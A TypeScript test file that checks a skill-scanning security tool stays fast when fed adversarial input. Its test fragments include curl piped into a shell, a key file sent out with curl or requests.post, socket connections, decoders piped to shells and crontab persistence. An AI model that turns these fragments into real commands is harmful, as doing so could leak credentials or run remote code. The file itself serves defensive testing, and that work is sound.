/** Texts made to be slow. Compared with plain text of the same size: a ratio says the same on every machine. */
import { describe, expect, it } from "vitest";
import { RULES, scanSkill } from "../../../src/skills/scan/scan-skill.ts";
import { UndeclaredEnv } from "../../../src/skills/scan/rules/undeclared-env.ts";
import { scannedText, type TextKind } from "../../../src/skills/scan/scanned-text.ts";
import { subjectOf } from "../../../src/skills/scan/subject.ts";
import { skillOf } from "./build-skill.ts";
import { B64D, BASH, CURL, EVAL, KEYS, TCP } from "./parts.ts";

const SIZE = 1024 * 1024;
/** Every rule reads every line of these, while plain text is put aside after one look. */
const MOST = 40;
const NOISE = 20;
const filled = (piece: string): string => piece.repeat(Math.ceil(SIZE / piece.length)).slice(0, SIZE);
/** A piece that is different each time has a `#` for its number. */
const numbered = (piece: string): string =>
  Array.from({ length: SIZE / piece.length }, (_, index) => piece.replaceAll("#", String(index)))
    .join("")
    .slice(0, SIZE);
const PROSE = filled("The quick brown fox reads the paper, then writes five lines about it.\n");

const { skill } = skillOf({ name: "", body: "x" });

function cost(text: string, kind: TextKind): number {
  const start = process.cpuUsage().user;
  const scanned = scannedText("a", kind, text);
  const subject = subjectOf(skill, scanned);
  // The guard's detectors have a test of their own for this.
  for (const { hint, find } of RULES) if (hint.test(scanned.all)) for (const _ of find(scanned, subject));
  const uses = new UndeclaredEnv(subject);
  uses.add(scanned);
  uses.findings();
  return Math.max(NOISE, (process.cpuUsage().user - start) / 1000);
}

const PIECES: readonly [name: string, piece: string][] = [
  ["open downloads", `${CURL} -s http://a/ `],
  ["downloads with pipes", `${CURL} http://a |`],
  ["pipes", "|"],
  ["shells", `| ${BASH} `],
  ["sudo", "| sudo sudo -E "],
  ["assignments", "a=b; "],
  ["references", "$a${b}%c%{d} "],
  ["variables that grow", "a=$a$a$a;\n$a$a\n"],
  ["substitutions", `${EVAL} "$( `],
  ["decoders", `${B64D} | `],
  ["escapes", "\\x61"],
  ["quotes", "a\"'`"],
  ["characters", "chr(97)+"],
  ["characters, nearly", "chr(97)+chr(98)+x+"],
  ["signs", "[]!+()"],
  ["hex names", "_0xabcd "],
  ["keys", `${KEYS} `],
  ["keys and sending", `cat ${KEYS} | ${CURL} -d @- \n`],
  ["sockets", `${TCP}/ `],
  ["sockets over lines", "s = socket.socket(); s.connect((1\n"],
  ["addresses", "http://a.b/c "],
  ["numbers", "http://1.2.3.4/ 5.6.7.8:9 "],
  ["addresses without end", `http://${"a".repeat(50)}`],
  ["passwords", "zip password: x https://a.io/a.zip\n"],
  ["demands", "you must download https://a.io/a.exe and run it before using\n"],
  ["jobs", "crontab - ; launchagents/ \n"],
  ["names", "a = b\nb = a\n"],
  ["flows", `k = open("${KEYS}")\nrequests.post(k)\n`],
  ["functions", "def f(a):\n return a\n"],
  ["continuations", "a \\\n"],
  ["open pipes", "```\na |\n"],
  ["fences", "```\n"],
  ["headings", "# a\n## b\n"],
  ["comments", "<!-- "],
  ["base64", "QUJDREVGR0hJSktM"],
  ["hex", "6162636465666768"],
  ["hosts", `${CURL} https://h#.io/x | ${BASH}\n`],
  ["sites to visit", "you must download https://h#.io/a.exe and run it before using\n"],
  ["variables", "echo $A#_KEY "],
  ["numbered names", `n# = open("${KEYS}")\nrequests.post(n#)\n`],
  ["saved files", `${CURL} -o /tmp/f# https://h#.io/x\n`],
  ["newlines", "\n"],
  ["short lines", "a\n"],
  ["newlines and returns", "\n\r"],
  ["blanks", " "],
  ["one word", "a"],
  ["look-alikes", "с\u200bu\u0301rl "],
];

describe("hostile texts", () => {
  for (const kind of ["instructions", "script"] as const) {
    // The first reading is slower than all others.
    const plain = Math.min(cost(PROSE, kind), cost(PROSE, kind), cost(PROSE, kind));
    it.each(PIECES)(`[skill-09a] a mebibyte of %s costs no more than a multiple of prose (${kind})`, (_, piece) => {
      const text = piece.includes("#") && piece.length > 4 ? numbered(piece) : filled(piece);
      let ratio = Number.POSITIVE_INFINITY;
      // The best of three: a pause of the machine only ever makes it look worse.
      for (let round = 0; round < 3 && ratio > MOST; round += 1) ratio = Math.min(ratio, cost(text, kind) / plain);
      expect(ratio).toBeLessThan(MOST);
    });
  }
});

describe("whole skills", () => {
  const FILES = 4;
  const files = (text: string): Record<string, string> =>
    Object.fromEntries(Array.from({ length: FILES }, (_, index) => [`f${index}.sh`, text]));

  /** Milliseconds of work, and how often others had a turn meanwhile. */
  async function scan(text: string): Promise<{ spent: number; turns: number }> {
    const sample = skillOf({ name: "", body: "x", files: files(text) });
    let turns = 0;
    let isOn = true;
    const turn = (): void => {
      turns += 1;
      if (isOn) setImmediate(turn);
    };
    setImmediate(turn);
    const start = process.cpuUsage().user;
    await scanSkill(sample.skill, sample.readFile);
    isOn = false;
    return { spent: Math.max(NOISE, (process.cpuUsage().user - start) / 1000), turns };
  }

  it("[skill-09a] files of newlines cost no more than a multiple of files of prose", async () => {
    await scan(PROSE);
    const plain = Math.min((await scan(PROSE)).spent, (await scan(PROSE)).spent);
    let ratio = Number.POSITIVE_INFINITY;
    for (let round = 0; round < 3 && ratio > 4; round += 1)
      ratio = Math.min(ratio, (await scan("\n".repeat(SIZE))).spent / plain);
    expect(ratio).toBeLessThan(4);
  });

  it("[skill-09a] the longer a scan takes, the more often others have a turn", async () => {
    const short = await scan("echo hello\n");
    const long = await scan(filled(`k = open("${KEYS}")\nrequests.post(k)\n`));
    expect(long.turns).toBeGreaterThan(10 * Math.max(1, short.turns));
  });
});
